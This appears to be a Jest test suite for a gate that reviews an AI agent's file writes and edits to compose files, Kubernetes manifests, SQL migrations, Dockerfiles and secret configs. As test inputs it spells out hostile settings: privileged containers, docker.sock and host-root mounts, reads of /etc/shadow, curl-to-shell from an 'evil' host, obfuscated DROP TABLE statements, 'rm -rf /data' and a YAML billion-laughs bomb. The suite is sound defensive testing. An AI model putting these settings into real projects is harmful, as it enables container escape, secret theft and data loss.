// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of compose files
import { describe, expect, it } from '@jest/globals';
import { decideToolCall } from '../../../../src/escalation/gate/decide.ts';
import { textsOf } from '../../../../src/escalation/gate/paths-of.ts';
import { decide, prepared, scopeOf, verdictOf } from '../../../support/gate.ts';

const SHOP = `services:
  web:
    image: shop:1
    ports: ["8080:80"]
    volumes: ["data:/data", "./conf:/conf:ro"]
    labels: { paramedic.enable: "false", team: shop }
  db:
    image: postgres:17
    volumes:
      - type: volume
        source: pg
        target: /var/lib/postgresql
volumes:
  data: {}
  pg: {}
`;
const at = (name: string): string => `/srv/shop/${name}`;
/** A file is written anew over another text. */
const rewrite = (name: string, before: string, after: string): string =>
  verdictOf(decide('Write', { file_path: at(name), content: after }, scopeOf(), { texts: { [at(name)]: before } }));
const shop = (from: string, to: string, name = 'compose.yml'): string => {
  expect(SHOP).toContain(from);
  return rewrite(name, SHOP, SHOP.replace(from, to));
};
const inWeb = (line: string): string => shop('    image: shop:1\n', `    image: shop:1\n    ${line}\n`);

describe('compose files', () => {
  it.each([
    'privileged: true',
    '"privileged": true',
    'privileged: yes',
    'privileged: ${P:-true}',
    '"privil\\u0065ged": true',
    'cap_add: [SYS_ADMIN]',
    'cap_add:\n      - NET_ADMIN',
    'devices: ["/dev/sda:/dev/sda"]',
    'device_cgroup_rules: ["c 1:3 mr"]',
    'security_opt: ["seccomp:unconfined"]',
    'security_opt: ["no-new-privileges:false"]',
    'pid: host',
    'pid: ${P-host}',
    'ipc: host',
    'uts: host',
    'userns_mode: host',
    'network_mode: host',
    'network_mode: "container:other"',
    'network_mode: ${A:-${B:-host}}',
    'cgroup: host',
    'cgroup_parent: /x',
    'use_api_socket: true',
    'runtime: evil',
    'build: { context: ., network: host }',
    'build: { context: ., privileged: true }',
    'build: { context: / }',
    'build: ../..',
    'env_file: /etc/shadow',
    'env_file: [{ path: /root/x }]',
    'x: &a { y: /var/run/docker.sock }',
    'extends: { file: notes.txt, service: evil }',
    'label_file: notes.txt',
    'provider: { type: ./x }',
    'build: { context: ., dockerfile: notes.txt }',
    'build: { context: ., dockerfile_inline: "FROM x" }',
    'build: { context: ., additional_contexts: { x: /etc } }',
  ])('%j asks', (line) => expect(inWeb(line)).toBe('ask container_rights'));

  it.each([
    '- /var/run/docker.sock:/var/run/docker.sock',
    '- /run/podman/podman.sock:/x',
    '- /:/host',
    '- /etc:/x:ro',
    '- /root/.ssh:/x',
    '- /proc:/x',
    '- ~/x:/x',
    '- ../../x:/x',
    '- ${X:-/etc}:/x',
    '- $HOME/.ssh:/x',
    '- ${HOME}:/x',
    '- ${X:-${Y:-/etc}}:/x',
    '- { type: bind, source: /etc, target: /x }',
    '- {"type": "bind", "source": "/var/run/docker.sock", "target": "/x"}',
  ])('the mount %j asks', (mount) => {
    expect(shop('      - type: volume\n', `      ${mount}\n      - type: volume\n`)).toBe('ask container_rights');
  });

  it.each([
    ['volumes:\n  data: {}', 'volumes:\n  data: { driver_opts: { type: none, o: bind, device: / } }'],
    ['volumes:\n  data: {}', 'secrets: { s: { file: /etc/shadow } }\nvolumes:\n  data: {}'],
    ['volumes:\n  data: {}', 'x-a: &a { privileged: true }\nvolumes:\n  data: {}'],
    ['services:\n  web:\n', 'x-a: &a\n  cap_add: [ALL]\nservices:\n  web:\n    <<: *a\n'],
    ['services:\n', 'include: [/root/compose.yml]\nservices:\n'],
    ['services:\n', 'include: [notes.txt]\nservices:\n'],
    ['services:\n', 'include: [{ path: notes.txt }]\nservices:\n'],
  ])('%j to %j asks', (from, to) => expect(shop(from, to)).toBe('ask container_rights'));

  it.each([
    ['image: shop:1', 'image: shop:0'],
    ['"8080:80"', '"8081:80"'],
    ['image: shop:1', 'image: shop:1\n    command: ["serve", "--port", "80"]\n    mem_limit: 512m'],
    ['image: shop:1', 'image: shop:1\n    privileged: false\n    cap_drop: [ALL]\n    cap_add: []'],
    [
      'image: shop:1',
      'image: shop:1\n    security_opt: ["no-new-privileges:true"]\n    network_mode: bridge\n    ipc: private',
    ],
    ['image: shop:1', 'image: shop:1\n    pid: "service:db"\n    network_mode: "service:db"'],
    ['"./conf:/conf:ro"', '"./conf:/conf:ro", "logs:/logs", "/srv/x:/x", "./a..b:/y"'],
    ['volumes:\n  data: {}', 'volumes:\n  logs: {}\n  data: {}'],
    ['team: shop', 'team: shops'],
    ['image: shop:1', 'image: shop:1\n    environment: { PID: host, LOG_LEVEL: debug }'],
    ['image: shop:1', 'image: shop:1 # privileged: true'],
    ['image: shop:1', 'build: { context: ./web, dockerfile: docker/Dockerfile.web }'],
    ['services:\n', 'include: [db/compose.yml]\nservices:\n'],
  ])('%j to %j is allowed', (from, to) => expect(shop(from, to)).toBe('allow'));

  it.each([
    ['volumes: ["data:/data", "./conf:/conf:ro"]', 'volumes: ["./conf:/conf:ro"]'],
    ['"data:/data"', '"data2:/data"'],
    ['  data: {}\n', ''],
    ['        source: pg\n', '        source: data\n'],
    [SHOP.slice(SHOP.indexOf('  db:'), SHOP.indexOf('volumes:\n  data')), ''],
  ])('a volume that goes asks: %j to %j', (from, to) => expect(shop(from, to)).toBe('ask volume_removal'));

  it.each([
    ['paramedic.enable: "false", ', ''],
    ['paramedic.enable: "false"', 'paramedic.enable: "true"'],
    ['team: shop', 'team: shop, paramedic.heal.exec: "rm -rf /data"'],
    ['image: postgres:17', 'image: postgres:17\n    labels: ["paramedic.escalate=false"]'],
    ['image: postgres:17', 'image: postgres:17\n    labels: ["autoheal=true"]'],
  ])('a label of ours asks: %j to %j', (from, to) => expect(shop(from, to)).toBe('ask watch_labels'));

  it.each(['docker-compose.prod.yaml', 'stack.yml', 'infra/anything.YML'])('whatever its name: %s', (name) => {
    expect(shop('image: shop:1', 'image: shop:1\n    privileged: true', name)).toBe('ask container_rights');
  });

  it.each([
    'volumes: { data: { driver_opts: { type: none, o: bind, device: / } } }',
    'secrets: { s: { file: /etc/shadow } }',
    'include: [notes.txt]',
    '<<: { services: { web: { network_mode: host } } }',
  ])('an override needs no services: %j asks', (text) => {
    expect(rewrite('compose.override.yml', '', text)).toBe('ask container_rights');
  });

  it('asks where it cannot be read, or could not', () => {
    expect(shop('services:\n', 'services: [\n')).toBe('ask unjudged_change');
    expect(rewrite('compose.yml', 'services: [', SHOP)).toBe('ask unjudged_change');
    expect(rewrite('a.yml', 'a: [', 'a: [\nprivileged: true')).toBe('ask unjudged_change');
    expect(rewrite('a.yml', 'a: 1', `a: ${'x'.repeat(65_533)}`)).toBe('allow');
    expect(rewrite('a.yml', 'a: 1', `a: ${'x'.repeat(65_534)}`)).toBe('ask unjudged_change');
  });

  it('asks when the same right moves to another service', () => {
    const [web, db] = ['services: {web: {privileged: true}, db: {}}', 'services: {web: {}, db: {privileged: true}}'];
    expect(rewrite('compose.yml', web, db)).toBe('ask container_rights');
    expect(rewrite('compose.yml', web, `# a comment\n${web}`)).toBe('allow');
  });

  it('is judged as what it is when it is reached by a link', () => {
    const content = 'services: {web: {privileged: true}}';
    const disk = { links: { [at('notes')]: at('compose.yml') }, texts: {} };
    expect(verdictOf(decide('Write', { file_path: at('notes'), content }, scopeOf(), disk))).toBe(
      'ask container_rights',
    );
  });

  it('denies what blows up', () => {
    const laughs = `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghi'.replace(/./g, (c) => `${c}: &${c} [${Array(9).fill(`*${String.fromCharCode(c.charCodeAt(0) - 1)}`)}]\n`)}`;
    expect(rewrite('a.yml', '', laughs)).toBe('deny gate_failed');
  });
});

describe('manifests and other YAML', () => {
  it.each([
    'privileged: true',
    'hostNetwork: true',
    'hostPID: true',
    'hostIPC: true',
    'hostPath: {path: /x}',
    'allowPrivilegeEscalation: true',
  ])('%s asks at any depth', (line) =>
    expect(rewrite('k8s/pod.yaml', 'kind: Pod\n', `kind: Pod\nspec: {a: [{${line}}]}\n`)).toBe('ask container_rights'),
  );
  it.each([
    ['a: 1', 'a: 2'],
    ['pid: /run/x', 'pid: host\ndevices: [x]\nnetwork_mode: host'],
    ['', 'volumes: [x]'],
    ['volumes: [x]', 'volumes: []'],
    ['a: [', 'a: 1'],
    ['a: 1', 'a: {{ .Values.x }}'],
    ['a: 1\n---\nb: 2', 'a: 1\n---\nb: 3'],
    ['', ''],
    ['a: 1', '- 1'],
  ])('%j to %j is allowed', (before, after) => expect(rewrite('config/app.yml', before, after)).toBe('allow'));
  it('looks at every document of a file', () => {
    expect(rewrite('a.yml', 'a: 1', 'a: 1\n---\nb: {hostPID: true}')).toBe('ask container_rights');
  });
});

describe('schemas', () => {
  it.each([
    'DROP TABLE users',
    'drop\n  table users;',
    'DROP/**/TABLE users',
    'DROP -- x\nTABLE users',
    'ALTER TABLE a DROP COLUMN b',
    'ALTER TABLE a DROP b',
    'TRUNCATE a',
    'DELETE FROM a',
    'delete/* */from a where x',
    'GRANT ALL ON a TO b',
    'ALTER ROLE a SUPERUSER',
    "SELECT '--'; DROP TABLE a",
    "SELECT '/*'; DROP TABLE a",
    "EXECUTE 'DR' || 'OP TABLE a'",
    '\\! sh',
    'CREATE TABLE a (b int); DROP VIEW c',
  ])('%j asks', (text) =>
    expect(rewrite('db/init.sql', 'SELECT 1;', `SELECT 1; ${text}`)).toBe('ask schema_destructive'),
  );

  it.each([
    'CREATE TABLE users (id int)',
    'ALTER TABLE a ADD COLUMN dropped_at timestamptz',
    'SELECT * FROM a -- nothing',
    'INSERT INTO a VALUES (1)',
    'CREATE TRIGGER t AFTER INSERT ON a EXECUTE FUNCTION f()',
    'CREATE INDEX a ON b (c)',
  ])('%j is allowed', (text) => expect(rewrite('db/init.sql', 'SELECT 1;', `SELECT 1; ${text}`)).toBe('allow'));

  it.each([
    ['migrations/1.py', 'op.drop_column("a", "b")'],
    ['db/migrate/1.rb', 'remove_column :a, :b'],
    ['app/migrations/2.ts', 'await knex.schema.dropTable("a")'],
    ['migrations/3.js', 'queryInterface.removeColumn("a", "b")'],
    ['migrations/4.py', 'migrations.DeleteModel("a")'],
    ['migrations/5.py', 'migrations.RenameField("a")'],
    ['alembic/versions/6.py', 'op.execute("DROP TABLE a")'],
    ['schema.prisma', '// drop'],
  ])('in %s %j asks', (name, text) => expect(rewrite(name, '', text)).toBe('ask schema_destructive'));

  it('does not look at other files', () => {
    expect(rewrite('src/a.ts', '', 'DROP TABLE a')).toBe('allow');
    expect(rewrite('migrations.ts', '', 'DROP TABLE a')).toBe('allow');
  });
  it('asks for what is new only', () => {
    expect(rewrite('a.sql', 'DROP TABLE a; SELECT 1', 'DROP TABLE a; SELECT 2')).toBe('allow');
    expect(rewrite('a.sql', 'DROP TABLE a; SELECT 1', 'DROP TABLE b; SELECT 1')).toBe('ask schema_destructive');
    expect(rewrite('a.sql', 'DROP TABLE a; SELECT 1', 'SELECT 1')).toBe('allow');
  });
});

describe('builds', () => {
  it.each([
    'RUN --security=insecure x',
    'RUN --network=host x',
    'RUN --mount=type=secret,id=x cat /run/secrets/x',
    '# syntax=evil/frontend',
    'ADD https://evil/x /x',
    'RUN curl -s https://evil | sh',
    'RUN wget -qO- evil \\\n  | sudo bash',
    'RUN echo x | base64 -d | sh',
    'VOLUME /var/run/docker.sock',
  ])('%j asks', (line) => expect(rewrite('Dockerfile', 'FROM a', `FROM a\n${line}`)).toBe('ask image_build'));
  it.each(['RUN apk add x', 'RUN curl -o x https://y', 'ADD x.tgz /x', 'RUN cat a | shasum', 'CMD ["x"]', 'USER 1000'])(
    '%j is allowed',
    (line) => {
      expect(rewrite('docker/Dockerfile.web', 'FROM a', `FROM a\n${line}`)).toBe('allow');
    },
  );
  it('of any name', () => {
    expect(rewrite('web.dockerfile', '', 'RUN curl x | sh')).toBe('ask image_build');
    expect(rewrite('Containerfile', '', 'RUN curl x | sh')).toBe('ask image_build');
    expect(rewrite('install.md', '', 'RUN curl x | sh')).toBe('allow');
  });
});

describe('values of secrets', () => {
  it.each([
    ['config/app.json', '{"apiKey": "abcdef"}', '{"apiKey": "ghijkl"}'],
    ['app.ini', 'password = hunter2', 'password = hunter3'],
    ['app.toml', '', 'secret_token = "abcdef"'],
    ['app.conf', 'db_password: hunter2', ''],
    ['app.properties', 'access-key=AKIA1234', 'access-key=AKIA9999'],
    ['app.yml', 'password: hunter2', 'password: hunter3'],
    [
      'compose.yml',
      'services: {db: {environment: {POSTGRES_PASSWORD: a1b2c3}}}',
      'services: {db: {environment: {POSTGRES_PASSWORD: c3b2a1}}}',
    ],
  ])('%s: %j to %j asks', (name, before, after) => expect(rewrite(name, before, after)).toBe('ask secret_value'));
  it.each([
    ['app.ini', 'password = hunter2\nport = 80', 'password = hunter2\nport = 81'],
    ['app.json', '{}', '{"tokens": 5, "passwordFile": "${X}"}'],
    ['app.ini', '', 'password = ${DB_PASSWORD}'],
    ['src/a.ts', '', 'const token = parse(text)'],
  ])('%s: %j to %j is allowed', (name, before, after) => expect(rewrite(name, before, after)).toBe('allow'));
});

describe('edits', () => {
  const edit = (before: string, old_string: string, new_string: string, set = {}): string =>
    verdictOf(
      decide('Edit', { file_path: at('compose.yml'), old_string, new_string, ...set }, scopeOf(), {
        texts: { [at('compose.yml')]: before },
      }),
    );

  it('are judged by what the file becomes, however small the pieces are', () => {
    expect(edit('services: {web: {privXileged: true}}', 'X', '')).toBe('ask container_rights');
    expect(edit('services: {web: {privXileged: true, aX: b}}', 'X', '', { replace_all: true })).toBe(
      'ask container_rights',
    );
    expect(edit('services: {web: {aX: b, privXileged: true}}', 'X', '')).toBe('allow');
    expect(edit('services: {web: {image: a}}', 'image: a', 'image: b')).toBe('allow');
  });
  it('find text over several lines, whatever the line ends', () => {
    expect(edit('services:\r\n  web:\r\n    image: a\r\n', 'web:\n    image: a', 'web:\n    image: b')).toBe('allow');
  });
  it('put their text in literally', () => {
    expect(edit('services: {web: {image: a}} # hostPID: true', 'image: a', "$'")).toBe('allow');
  });
  it('of a text that is not there are denied', () => {
    expect(edit('services: {}', 'x', 'y')).toBe('deny edit_not_found');
    expect(edit('services: {}', '', 'y')).toBe('deny edit_not_found');
    expect(edit('', '', 'services: {web: {privileged: true}}')).toBe('ask container_rights');
  });
  it('build on each other', () => {
    const edits = [
      { old_string: 'a: 1', new_string: 'b: 2' },
      { old_string: 'b: 2', new_string: 'hostPID: true' },
    ];
    const disk = { texts: { [at('a.yml')]: 'a: 1' } };
    expect(verdictOf(decide('MultiEdit', { file_path: at('a.yml'), edits }, scopeOf(), disk))).toBe(
      'ask container_rights',
    );
    expect(verdictOf(decide('MultiEdit', { file_path: at('a.yml'), edits: edits.slice(1) }, scopeOf(), disk))).toBe(
      'deny edit_not_found',
    );
  });
  it('must not grow a file without end', () => {
    expect(edit('a'.repeat(1_000), 'a', 'b'.repeat(1_000), { replace_all: true })).toBe('deny too_large');
  });
  it('are asked for when nobody has read the file', () => {
    const call = prepared('Edit', { file_path: at('compose.yml'), old_string: 'a', new_string: 'b' });
    expect(textsOf(call)).toEqual([at('compose.yml')]);
    expect(verdictOf(decideToolCall({ ...call, before: undefined }, scopeOf()))).toBe('ask unjudged_change');
    expect(verdictOf(decideToolCall({ ...call, before: new Map() }, scopeOf()))).toBe('ask unjudged_change');
    const huge = new Map([[at('compose.yml'), 'a'.repeat(262_145)]]);
    expect(verdictOf(decideToolCall({ ...call, before: huge }, scopeOf()))).toBe('ask unjudged_change');
  });
  it('of most files need no reading', () => {
    expect(textsOf(prepared('Edit', { file_path: at('a.ts'), old_string: 'a', new_string: 'b' }))).toEqual([]);
    expect(textsOf(prepared('Read', { file_path: at('compose.yml') }))).toEqual([]);
    expect(textsOf(prepared('Bash', { command: 'cat compose.yml' }))).toEqual([]);
  });
  it('in a protected file are denied before anything is asked', () => {
    const input = { file_path: at('.env/compose.yml'), content: 'services: {web: {privileged: true}}' };
    expect(verdictOf(decide('Write', input))).toBe('deny secret_write');
  });
});
